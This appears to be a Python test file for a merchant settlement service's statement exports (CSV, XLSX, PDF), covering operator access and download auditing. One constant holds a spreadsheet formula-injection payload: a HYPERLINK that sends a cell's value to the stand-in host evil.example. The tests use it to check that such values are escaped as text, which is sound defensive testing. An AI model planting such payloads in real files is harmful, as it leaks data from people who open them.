"""A month's statement as files: CSV and XLSX that open right in Excel and WPS and carry no
live formula, for the merchant and, on request, for the operator — every download audited."""

from __future__ import annotations

import io
import uuid
from decimal import Decimal

import openpyxl
from sqlalchemy import select

from exchange.audit import AuditEvent
from tests.helpers import assert_problem, at, csv_rows

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"查看详情")'


def closed_october(m, *, order_ref=None):
    sale = m.redeem(m.maternity, m.stroller, 25000)
    m.redeem(m.stroller, m.maternity, 19999)
    m.refund(m.maternity, sale, 7)
    if order_ref:
        coupon = m.api.post(f"/api/v1/offers/{m.offers[m.maternity.id]['id']}/coupons", m.toys.key, json={})
        r = m.api.post("/api/v1/redemptions", m.maternity.terminal_key, headers={"Idempotency-Key": str(uuid.uuid4())},
                       json={"payload": coupon.get_json()["items"][0]["payload"], "order_amount": 30000,
                             "order_ref": order_ref})
        assert r.status_code == 201, r.get_json()
    at("2026-11-01T00:00:00+08:00")
    assert m.close("2026-10", min_transfer=0).status_code == 201


def workbook(response):
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.mimetype == XLSX and "attachment" in response.headers["Content-Disposition"]
    return openpyxl.load_workbook(io.BytesIO(response.data)).active


def test_the_xlsx_holds_the_csvs_table_with_yuan_amounts_and_real_dates(month, api):
    closed_october(month)
    for actor in (month.stroller, month.maternity):
        lines = csv_rows(api.get("/api/v1/settlements/2026-10/statement.csv", actor.key).data)
        sheet = workbook(api.get("/api/v1/settlements/2026-10/statement.xlsx", actor.key))
        rows = list(sheet.iter_rows(min_row=2))
        assert len(rows) == len(lines)
        header = [c.value.split()[-1] for c in sheet[1]]
        assert header == list(lines[0])
        for line, row in zip(lines, rows, strict=True):
            cells = dict(zip(header, row, strict=True))
            assert cells["row"].value == line["row"] and cells["type"].value == line["type"]
            # Yuan in the workbook, fen in the CSV: the same amount.
            assert Decimal(str(cells["amount"].value)) * 100 == int(line["amount"])
            assert '"¥"#,##0.00' in cells["amount"].number_format
            if line["posted_at"]:
                assert cells["posted_at"].is_date
                assert cells["posted_at"].value.isoformat()[:19] == line["posted_at"][:19]
            if line["partner_name"]:
                assert cells["partner_name"].value == line["partner_name"]
        assert {line["row"] for line in lines} == {"line", "subtotal", "total"}
        # The totals are the last rows, marked in the first column and in bold.
        assert [line["row"] for line in lines[-2:]] == ["subtotal", "total"]
        assert all(cell.font.b for cell in rows[-1] if cell.value is not None)


def test_a_partner_named_like_a_formula_is_text_in_both_files_and_reads_right(month, api):
    m = month
    assert api.patch("/api/v1/merchants/me", m.toys.key, json={"name": HOSTILE_NAME}).status_code == 200
    closed_october(m, order_ref="=1+2")
    lines = csv_rows(api.get("/api/v1/settlements/2026-10/statement.csv", m.maternity.key).data)
    names = {line["partner_name"] for line in lines if line["partner_id"] == str(m.toys.id)}
    assert names == {"'" + HOSTILE_NAME}
    assert [line["order_ref"] for line in lines if line["order_ref"].endswith("1+2")] == ["'=1+2"]
    amounts = [int(line["amount"]) for line in lines if line["row"] == "total"]  # numbers stay numbers
    assert len(amounts) == 1
    sheet = workbook(api.get("/api/v1/settlements/2026-10/statement.xlsx", m.maternity.key))
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value == HOSTILE_NAME]
    assert cells and all(cell.data_type == "s" for cell in cells)
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_the_operator_downloads_any_merchants_statement_and_each_download_is_audited(month, api, session):
    m = month
    closed_october(m)
    mine = api.get("/api/v1/settlements/2026-10/statement.csv", m.stroller.key)
    query = {"merchant_id": m.stroller.id}
    csv_file = api.get("/api/v1/settlements/2026-10/statement.csv", m.operator, query_string=query)
    assert csv_file.status_code == 200 and csv_file.data == mine.data
    assert f"merchant-{m.stroller.id}.csv" in csv_file.headers["Content-Disposition"]
    pdf = api.get("/api/v1/settlements/2026-10/statement.pdf", m.operator, query_string=query)
    assert pdf.status_code == 200 and pdf.data.startswith(b"%PDF")
    workbook(api.get("/api/v1/settlements/2026-10/statement.xlsx", m.operator, query_string=query))
    downloads = session.execute(select(AuditEvent.actor, AuditEvent.merchant_id, AuditEvent.subject_id,
                                       AuditEvent.data).where(AuditEvent.action == "statement.downloaded")
                                .order_by(AuditEvent.id)).all()
    assert [(d.actor, d.merchant_id, d.subject_id, d.data["format"]) for d in downloads] == [
        (f"merchant:{_key_id(m.stroller)}", m.stroller.id, f"2026-10:{m.stroller.id}", "csv"),
        ("operator", m.stroller.id, f"2026-10:{m.stroller.id}", "csv"),
        ("operator", m.stroller.id, f"2026-10:{m.stroller.id}", "pdf"),
        ("operator", m.stroller.id, f"2026-10:{m.stroller.id}", "xlsx"),
    ]


def test_whose_statement_must_be_said_by_the_operator_and_only_by_it(month, api):
    m = month
    closed_october(m)
    for fmt in ("csv", "pdf", "xlsx"):
        path = f"/api/v1/settlements/2026-10/statement.{fmt}"
        body = assert_problem(api.get(path, m.operator), 422, "validation_failed")
        assert "merchant_id" in body["errors"]
        assert_problem(api.get(path, m.operator, query_string={"merchant_id": 999_999}), 404)
        # A merchant gets its own statement; naming another merchant is the same 404 as a stranger.
        assert api.get(path, m.stroller.key, query_string={"merchant_id": m.stroller.id}).status_code == 200
        assert_problem(api.get(path, m.stroller.key, query_string={"merchant_id": m.maternity.id}), 404)
        assert_problem(api.get(path, m.stroller.terminal_key), 403)


def _key_id(actor) -> int:
    return int(actor.key.split("_")[1])
